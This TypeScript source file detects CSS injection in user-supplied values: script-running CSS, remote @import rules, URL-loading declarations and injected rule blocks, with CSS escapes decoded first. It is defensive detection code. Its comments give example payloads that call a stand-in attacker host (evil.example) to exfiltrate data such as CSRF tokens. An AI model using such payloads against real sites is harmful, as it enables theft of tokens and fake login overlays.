/**
 * CSS sent as a value. Injected into a `<style>` block or a `style`
 * attribute, CSS restyles the page (a fake login over the real one), reads
 * attribute values through selectors and `url()` requests (CSS exfiltration of
 * CSRF tokens), and on old engines runs script (`expression()`, `behavior`,
 * `-moz-binding`). Recognised by grammar: a rule block whose first
 * declaration names a real CSS property, or a script-running construct.
 */

/** `{ color:`, `*{background:`, `body {font:`: a declaration block opening with a property name. */
const DECLARATION_BLOCK = /\{\s*(-?[a-z][a-z-]{0,30})\s*:/gi;
/** Script-running CSS: IE expressions, HTC behaviours, XBL bindings. Each needs the CSS property syntax. */
const SCRIPTED_CSS =
  /:\s*expression\s*\(|\bbehaviou?r\s*:\s*url\s*\(|-moz-binding\s*:|:\s*url\s*\(\s*(?:["']\s*)?(?:java|vb|live)script\b/i;

/**
 * `@import url(//evil.example/x.css)`, `@import 'x.css'`: pulls a whole
 * attacker stylesheet into the page (exfiltration selectors, old-engine
 * script). The at-rule with a URL or string is CSS syntax, not prose.
 */
const IMPORT_RULE = /@import\s*(?:url\s*\(|["'])/i;

/**
 * `;background:url(//evil.example/log)`, `red;list-style-image:url("https://…")`: the value ends the declaration
 * it was placed in (a `style` attribute, a colour setting) and adds one that fetches from another host, which
 * reports the visit or, with attribute selectors, the page's secrets. A site's own image (`url(/img/bg.png)`) is
 * styling. Bounded runs of single classes: linear.
 */
const DECLARATION_WITH_URL = /;\s*-?[a-z][a-z-]{1,30}\s*:[^;{}:]{0,60}\burl\s*\(\s*(?:["']\s*)?(?:https?:)?\/\//i;

/** The properties an injected rule uses (layout, colour, content, fonts, URLs); not an exhaustive list. */
const CSS_PROPERTIES = new Set(
  "background background-color background-image border color content cursor display filter font font-family font-size height left list-style margin opacity padding position src top visibility width z-index behavior behaviour -moz-binding".split(
    " ",
  ),
);

export interface CssHit {
  readonly score: number;
  readonly what: string;
  readonly index: number;
}

/**
 * CSS escapes: `\28` (hex, up to six digits, one optional space after) is
 * `(`, and a backslash before any other character is that character. Old IE
 * decoded them before parsing, so `expression\28write(1)\29` ran.
 */
const CSS_ESCAPE = /\\(?:([0-9a-f]{1,6})\s?|([^\n0-9a-f]))/gi;

function decodeCssEscapes(value: string): string {
  return value.replace(CSS_ESCAPE, (match, hex: string | undefined, other: string | undefined) => {
    if (other !== undefined) return other;
    const code = Number.parseInt(hex ?? "", 16);
    return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : match;
  });
}

export function findCss(value: string): CssHit | undefined {
  const css = value.includes("\\") ? decodeCssEscapes(value) : value;
  const scripted = SCRIPTED_CSS.exec(css);
  if (scripted !== null) return { score: 0.85, what: "script-running CSS", index: scripted.index };
  // `@im\port 'x.css'`: escapes decode inside an at-keyword too.
  const imported = value.includes("@") ? IMPORT_RULE.exec(css) : null;
  if (imported !== null) return { score: 0.75, what: "CSS @import", index: imported.index };
  const declaration = value.includes("url") ? DECLARATION_WITH_URL.exec(css) : null;
  if (declaration !== null) return { score: 0.7, what: "CSS declaration loading a URL", index: declaration.index };
  if (!value.includes("{")) return undefined;
  DECLARATION_BLOCK.lastIndex = 0;
  for (let match = DECLARATION_BLOCK.exec(value); match !== null; match = DECLARATION_BLOCK.exec(value)) {
    if (CSS_PROPERTIES.has((match[1] as string).toLowerCase())) return { score: 0.7, what: "CSS rule block", index: match.index };
  }
  return undefined;
}
